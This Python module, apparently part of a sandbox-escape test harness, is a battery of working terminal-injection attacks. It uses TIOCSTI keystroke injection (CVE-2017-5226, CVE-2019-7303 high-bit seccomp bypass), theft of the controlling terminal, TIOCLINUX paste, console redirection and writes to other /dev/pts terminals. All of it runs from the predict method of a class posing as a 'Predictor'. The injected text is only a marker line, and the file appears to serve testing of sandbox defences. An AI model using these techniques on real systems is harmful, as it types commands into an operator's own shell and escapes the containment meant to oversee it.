"""Type into the operator's terminal: push characters into its input queue, so that the operator's own shell runs them.

Against it: `setsid`, no terminal in the table of I-11, the list of ioctls of I-14. This is bubblewrap #142 (CVE-2017-5226), and
CVE-2019-7303 for the numbers with high bits, which a filter of 64 bits lets through and the kernel cuts.
"""

import ctypes
import fcntl
import os
import termios

from toolbox import TARGETS, attempt, checked, libc, number, syscall

TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCCONS = 0x5412, 0x541C, 0x540E, 0x541D
HIGH = 1 << 32
PASTE, GET_SHIFT = 3, 6
DESCRIPTORS = range(64)
O_NOCTTY = os.O_NOCTTY


def ioctl_python(fd, request, data):
    return fcntl.ioctl(fd, request, data)


def ioctl_libc(fd, request, data):
    return checked(libc.ioctl(fd, ctypes.c_ulong(request), data))


def ioctl_number(fd, request, data):
    return syscall(number(16, 29), fd, request, data)


def typed(fd, variant, ioctl, request=TIOCSTI):
    """Push a line that names the variant."""
    for letter in f"blindcast-attack-{variant}\n".encode():
        ioctl(fd, request, bytes([letter]))
    return f"typed into {fd}"


def on_each(variant, ioctl, request=TIOCSTI):
    """On every descriptor that is open; the refusal of the last where none takes it."""
    done, refused = [], OSError("no descriptor is open")
    for fd in DESCRIPTORS:
        try:
            done.append(typed(fd, variant, ioctl, request))
        except OSError as error:
            refused = error if error.errno != 9 else refused
    if not done:
        raise refused
    return " ".join(done)


def open_libc(path, flags):
    return checked(libc.open(os.fsencode(path), flags))


def open_number(path, flags):
    return syscall(number(257, 56), -100, os.fsencode(path), flags, 0)


def on_path(path, variant, opened, ioctl, flags=os.O_RDWR):
    """On a terminal opened by its name, made the controlling one first where it lets itself be."""
    fd, refused = opened(path, flags), None
    try:
        try:
            ioctl_libc(fd, TIOCSCTTY, 0)
        except OSError as error:
            refused = error
        return typed(fd, variant, ioctl)
    except OSError as error:
        raise error from refused
    finally:
        os.close(fd)


def stolen(path):
    """Take the terminal away from the session that has it."""
    fd = open_libc(path, os.O_RDWR | O_NOCTTY)
    try:
        ioctl_number(fd, TIOCSCTTY, 1)
        return typed(fd, "stolen", ioctl_libc)
    finally:
        os.close(fd)


def selection(ioctl):
    """TIOCLINUX: ask a console for its shift state, then paste its selection."""
    done, refused = [], OSError("no descriptor is open")
    for fd in DESCRIPTORS:
        try:
            ioctl(fd, TIOCLINUX, bytes([GET_SHIFT]))
            ioctl(fd, TIOCLINUX, bytes([PASTE]))
            done.append(fd)
        except OSError as error:
            refused = error if error.errno != 9 else refused
    if not done:
        raise refused
    return f"pasted into {done}"


def console():
    """Have the console's output come to a terminal of its own."""
    master, slave = os.openpty()
    try:
        ioctl_libc(slave, TIOCCONS, 0)
        return "the console is redirected"
    finally:
        os.close(master)
        os.close(slave)


def queue_of_others():
    """Other terminals, by their number."""
    done, refused = [], FileNotFoundError("no terminal was found")
    for i in range(16):
        try:
            done.append(on_path(f"/dev/pts/{i}", "queue_of_others", open_libc, ioctl_number))
        except OSError as error:
            refused = error
    if not done:
        raise refused
    return " ".join(done)


def settings():
    """Change the terminal's settings by the standard descriptors."""
    for fd in (0, 1, 2):
        termios.tcsetattr(fd, termios.TCSANOW, termios.tcgetattr(fd))
    return "the terminal's settings may be changed"


IOCTLS = {"python": ioctl_python, "libc": ioctl_libc, "number": ioctl_number}
OPENS = {"python": open_libc, "libc": open_libc, "number": open_number}  # Python's own would meet the hook, which is no barrier


class Predictor:
    def predict(self, view):
        if view.anchor == 0:
            for way, ioctl in IOCTLS.items():
                for fd in (0, 1, 2):
                    attempt(f"standard_{fd}_{way}", typed, fd, f"standard_{fd}_{way}", ioctl)
                attempt(f"each_{way}", on_each, f"each_{way}", ioctl)
                attempt(f"linux_{way}", selection, ioctl)
                for name, path in (("own", "/dev/tty"), ("operator", TARGETS["tty"]), ("console", "/dev/console")):
                    attempt(f"{name}_{way}", on_path, path, f"{name}_{way}", OPENS[way], ioctl)
                    attempt(f"{name}_apart_{way}", on_path, path, f"{name}_apart_{way}", OPENS[way], ioctl, os.O_RDWR | O_NOCTTY)
            attempt("high_bits_libc", on_each, "high_bits_libc", ioctl_libc, TIOCSTI | HIGH)
            attempt("high_bits_number", on_each, "high_bits_number", ioctl_number, TIOCSTI | HIGH)
            attempt("stolen", stolen, TARGETS["tty"])
            for act in (console, queue_of_others, settings):
                attempt(act.__name__, act)
        return 0.5
